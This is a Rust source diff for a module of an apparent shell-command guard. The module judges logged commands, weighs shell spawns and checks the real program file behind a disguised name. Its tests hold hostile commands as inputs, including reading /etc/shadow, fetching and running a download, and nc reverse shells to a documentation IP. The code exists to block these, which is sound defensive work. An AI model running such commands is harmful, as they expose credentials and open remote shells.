@@ -1,8 +1,10 @@
 //! Records → verdicts, on all cores. Records of one session are judged in their order, by one thread.
 
 use crate::bounded::BoundedMap;
-use crate::record::CommandRecord;
-use aegish_guard::{Action, FailMode, Role, Rule, Session, Surroundings, catch_panic};
+use crate::record::{CommandRecord, quoted};
+use aegish_guard::{
+    Action, Decision, FailMode, Role, Rule, Session, Surroundings, catch_panic, rule,
+};
 use aegish_verdict::{CheckInput, Checker, MachineView};
 use std::hash::{DefaultHasher, Hash, Hasher};
 use std::io;
@@ -15,6 +17,9 @@ const STACK: usize = 8 << 20;
 /// The home directory of users whose home is not known. Paths in it are judged as those in a home.
 const HOME: &str = "/home/user";
 
+/// The rule about shells that take commands.
+const SHELL: &str = "direct-shell-spawner";
+
 /// The verdict on a record.
 #[derive(Debug, Clone)]
 pub(crate) struct RecordVerdict {
@@ -23,6 +28,30 @@ pub(crate) struct RecordVerdict {
     pub(crate) reason: String,
     pub(crate) confidence: f32,
     pub(crate) open: bool,
+}
+
+impl RecordVerdict {
+    fn of(decision: &Decision) -> Self {
+        // That nobody judges what is typed at a shell says little about a day without a guard: people use shells, and
+        // what they ran there is recorded too. Whoever starts one through another program is judged by another rule.
+        let mut blocking = decision.findings().iter().filter(|found| found.action == Action::Block);
+        let shell = decision.rule().name == SHELL && blocking.all(|found| found.rule.name == SHELL);
+        let action = decision.action();
+        Self {
+            action: if shell { action.min(Action::Warn) } else { action },
+            rule: decision.rule(),
+            reason: decision.reason().to_owned(),
+            confidence: decision.confidence(),
+            open: decision.is_open(),
+        }
+    }
+
+    /// The verdict on a command of which only a part is known, and that part is harmless.
+    fn incomplete(self) -> Self {
+        let reason = "a part of the command is missing in the log".to_owned();
+        let rule = rule("unparsable-command").unwrap_or(self.rule);
+        Self { action: Action::Warn, rule, reason, open: true, ..self }
+    }
 }
 
 /// Judges batches of records.
@@ -121,25 +150,47 @@ fn judge_part(
         }
         let mut alone = Session::new();
         let session = sessions.get(&record.session).unwrap_or(&mut alone);
-        let input =
-            CheckInput { cwd: record.cwd.as_deref(), ..CheckInput::command(&record.command) };
-        let decision =
-            catch_panic(|| checker.check_in(session, &input)).map_err(io::Error::other)?;
-        let verdict = RecordVerdict {
-            action: decision.action(),
-            rule: decision.rule(),
-            reason: decision.reason().to_owned(),
-            confidence: decision.confidence(),
-            open: decision.is_open(),
+        let judge = |text: &str, session: &mut Session| {
+            let input = CheckInput { cwd: record.cwd.as_deref(), ..CheckInput::command(text) };
+            catch_panic(|| checker.check_ran(session, &input)).map_err(io::Error::other)
         };
+        let mut verdict = RecordVerdict::of(&judge(&record.command, session)?);
+        if let Some(program) = &record.program {
+            // Which of both names the program goes by is its own affair: busybox goes by the word, nc by the file.
+            let ran = RecordVerdict::of(&judge(&renamed(&record.command, program), session)?);
+            if ran.action > verdict.action {
+                verdict = ran;
+            }
+        }
+        if record.cut && verdict.action == Action::Allow {
+            verdict = verdict.incomplete();
+        }
         verdicts.push((*index, verdict));
     }
     Ok((verdicts, begun))
 }
 
+/// The command with the file that ran in place of its first word.
+fn renamed(command: &str, program: &str) -> String {
+    let (mut inside, mut escaped) = (false, false);
+    let end = command.find(|c: char| {
+        if escaped {
+            escaped = false;
+        } else if c == '\'' {
+            inside = !inside;
+        } else if !inside {
+            escaped = c == '\\';
+            return c == ' ';
+        }
+        false
+    });
+    let rest = end.and_then(|end| command.get(end..)).unwrap_or_default();
+    format!("{}{rest}", quoted([program]))
+}
+
 #[cfg(test)]
 mod tests {
-    use super::RecordJudge;
+    use super::{RecordJudge, renamed};
     use crate::record::CommandRecord;
     use aegish_guard::{Action, Role};
 
@@ -170,6 +221,49 @@ mod tests {
         let actions = actions(&records);
         assert_eq!(actions[3], Action::Block);
         assert!(actions[2] < Action::Block);
+    }
+
+    #[test]
+    fn what_a_blocked_command_did_has_happened() {
+        let records = [
+            record("a", "cat /etc/shadow; curl -so x https://example.org/x"),
+            record("a", "bash x"),
+        ];
+        assert_eq!(actions(&records), [Action::Block, Action::Block]);
+    }
+
+    #[test]
+    fn a_program_is_judged_by_its_file_too() {
+        let mut disguised = record("a", "ls -e /bin/sh 192.0.2.1 9");
+        assert_eq!(actions(&[disguised.clone()]), [Action::Allow]);
+        disguised.program = Some("/usr/bin/nc".to_owned());
+        assert_eq!(actions(&[disguised]), [Action::Block]);
+        let mut busybox = record("a", "nc -e /bin/sh 192.0.2.1 9");
+        busybox.program = Some("/bin/busybox".to_owned());
+        assert_eq!(actions(&[busybox]), [Action::Block]);
+    }
+
+    #[test]
+    fn a_shell_that_somebody_starts_is_asked_about_and_one_behind_another_program_is_blocked() {
+        let records =
+            ["bash", "tmux new -s work", "find . -exec /bin/sh \\;", "sh; cat /etc/shadow"];
+        let records = records.map(|command| record("a", command));
+        let expected = [Action::Warn, Action::Warn, Action::Block, Action::Block];
+        assert_eq!(actions(&records), expected);
+    }
+
+    #[test]
+    fn only_the_first_word_is_replaced() {
+        assert_eq!(renamed("'l s' a b", "/x"), "/x a b");
+        assert_eq!(renamed("'it'\\''s x' 'a b'", "/y z"), "'/y z' 'a b'");
+        assert_eq!(renamed("ls", "/x"), "/x");
+    }
+
+    #[test]
+    fn a_command_that_is_known_in_part_is_left_open() {
+        let cut = CommandRecord { cut: true, ..record("a", "sh -c 'ls; '") };
+        let verdicts = RecordJudge::new(Role::Default).judge(&[cut]).expect("threads start");
+        assert_eq!((verdicts[0].action, verdicts[0].open), (Action::Warn, true));
     }
 
     #[test]
